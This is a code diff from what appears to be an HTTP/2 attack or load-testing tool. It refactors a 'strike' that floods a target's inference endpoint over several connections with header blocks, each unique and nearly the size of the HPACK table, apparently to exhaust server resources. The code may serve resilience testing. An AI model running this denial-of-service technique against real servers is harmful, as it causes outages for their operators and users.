@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import functools
 
 import hpack
 
@@ -12,11 +13,12 @@ _ENTRY = 4000  # bytes: nearly all of the table's 4,096
 _DYNAMIC = b"\xbe"  # the newest entry of the table
 
 
-def _blocks(connection: int, count: int, fields: int) -> list[bytes]:
-    """Heads unlike any other."""
+@functools.cache
+def _blocks(count: int, fields: int) -> list[bytes]:
+    """Heads of which no two are alike."""
     head = frames.call(backend.INFER, method=b"GET")
     return [
-        frames.block(head + tuple((b"x-%d-%d" % (number, each), b"%d" % connection) for each in range(fields)))
+        frames.block(head + tuple((b"x-%d-%d" % (number, each), b"") for each in range(fields)))
         for number in range(count)
     ]
 
@@ -24,7 +26,7 @@ def _blocks(connection: int, count: int, fields: int) -> list[bytes]:
 def _many(connections: int, count: int, fields: int) -> attack.Strike:
     async def one_of_many(to: target.Target) -> None:
         async with link.http2(to) as one:
-            for number, block in enumerate(_blocks(to.told.connections, count, fields)):
+            for number, block in enumerate(_blocks(count, fields)):
                 await one.send(_split(2 * number + 1, block))
                 await asyncio.sleep(0)
             await one.linger()
